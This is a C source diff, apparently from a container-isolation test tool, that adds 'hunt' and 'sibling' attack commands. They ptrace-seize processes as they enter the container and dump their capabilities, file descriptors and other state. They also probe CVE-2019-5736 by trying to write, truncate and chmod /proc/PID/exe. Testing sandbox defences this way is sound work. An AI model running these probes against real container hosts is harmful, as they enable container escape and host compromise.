@@ -706,6 +706,127 @@ static void do_abandon(char **arguments)
 	result("abandon", "", child);
 }
 
+/* ---- Processes that appear in the container ---- */
+
+static void print_link(const char *name, const char *path)
+{
+	char target[PATH_MAX] = "";
+
+	if (readlink(path, target, sizeof target - 1) < 0)
+		strcpy(target, "?");
+	printf(", \"%s\": ", name);
+	json_string(target);
+}
+
+static void print_status(pid_t pid, const char *field)
+{
+	char path[64], line[256];
+	FILE *file;
+
+	snprintf(path, sizeof path, "/proc/%d/status", (int)pid);
+	file = fopen(path, "r");
+	while (file && fgets(line, sizeof line, file))
+		if (!strncmp(line, field, strlen(field))) {
+			line[strcspn(line, "\n")] = '\0';
+			printf(", \"%s\": ", field);
+			json_string(line + strlen(field) + 2);
+		}
+	if (file)
+		fclose(file);
+}
+
+/* Tries to change the file that a process executes (CVE-2019-5736); the errnos, 0 for success. */
+static void print_attack_on_program(const char *path)
+{
+	int file = open(path, O_RDWR | O_CLOEXEC);
+	int writing = file < 0 ? errno : 0, truncating, mode;
+
+	if (file >= 0)
+		close(file);
+	truncating = truncate(path, 0) ? errno : 0;
+	mode = chmod(path, 0) ? errno : 0;
+	printf(", \"write\": %d, \"truncate\": %d, \"chmod\": %d", writing, truncating, mode);
+}
+
+static void inspect(pid_t pid)
+{
+	char path[64], target[64];
+	struct dirent *entry;
+	DIR *directory;
+
+	printf("{\"do\": \"hunt\", \"on\": \"\", \"pid\": %d", (int)pid);
+	for (int i = 0; i < 3; i++) {
+		static const char *const links[] = { "exe", "cwd", "root" };
+
+		snprintf(path, sizeof path, "/proc/%d/%s", (int)pid, links[i]);
+		print_link(links[i], path);
+	}
+	print_status(pid, "CapEff");
+	print_status(pid, "CapPrm");
+	print_status(pid, "CapInh");
+	print_status(pid, "CapBnd");
+	print_status(pid, "NoNewPrivs");
+	print_status(pid, "Uid");
+	print_status(pid, "Groups");
+	printf(", \"socket\": %ld", send_as(pid, 0x400000, 4));
+	snprintf(path, sizeof path, "/proc/%d/exe", (int)pid);
+	print_attack_on_program(path);
+	printf(", \"fds\": {\"-1\": \"\"");
+	snprintf(path, sizeof path, "/proc/%d/fd", (int)pid);
+	directory = opendir(path);
+	while (directory && (entry = readdir(directory))) {
+		if (entry->d_name[0] == '.')
+			continue;
+		snprintf(target, sizeof target, "%.40s/%.10s", path, entry->d_name);
+		print_link(entry->d_name, target);
+	}
+	if (directory)
+		closedir(directory);
+	printf("}}\n");
+	fflush(stdout);
+}
+
+/* sibling COUNT: clones children of this process's parent, which pause. */
+static void do_sibling(char **arguments)
+{
+	long pid = 0;
+
+	for (int left = atoi(arguments[0]); left > 0; left--) {
+		pid = syscall(SYS_clone, CLONE_PARENT | SIGCHLD, 0UL, 0UL, 0UL, 0UL);
+		if (pid == 0)
+			do_pause(arguments);
+	}
+	result("sibling", arguments[0], pid);
+}
+
+/* hunt COUNT: traces (CAP_SYS_PTRACE) that many processes, each as soon as it exists: the kernel
+ * assigns the pids of a namespace in rising order. */
+static void do_hunt(char **arguments)
+{
+	pid_t next = getpid() + 1;
+
+	for (long left = atol(arguments[0]); left > 0;) {
+		pid_t pid = 0;
+		int status;
+
+		for (pid_t guess = next; guess < next + 4; guess++)
+			if (!ptrace(PTRACE_SEIZE, guess, NULL, NULL)) {
+				pid = guess;
+				break;
+			}
+		if (!pid)
+			continue;
+		next = pid + 1;
+		if (ptrace(PTRACE_INTERRUPT, pid, NULL, NULL) ||
+		    waitpid(pid, &status, __WALL) != pid || !WIFSTOPPED(status))
+			continue;
+		inspect(pid);
+		ptrace(PTRACE_DETACH, pid, NULL, NULL);
+		left--;
+	}
+	result("hunted", arguments[0], 0);
+}
+
 static void attack(char **words);
 
 /* child COMMAND...: run it in a child */
@@ -726,6 +847,8 @@ static const struct command attacks[] = {
 	{ "on-init", do_on_init, 1 },
 	{ "forge", do_forge, 1 },
 	{ "child", do_child, 1 },
+	{ "hunt", do_hunt, 1 },
+	{ "sibling", do_sibling, 1 },
 	{ "hogs", do_hogs, 1 },
 	{ "peer", do_peer, 1 },
 	{ "peer-of", do_peer_of, 1 },
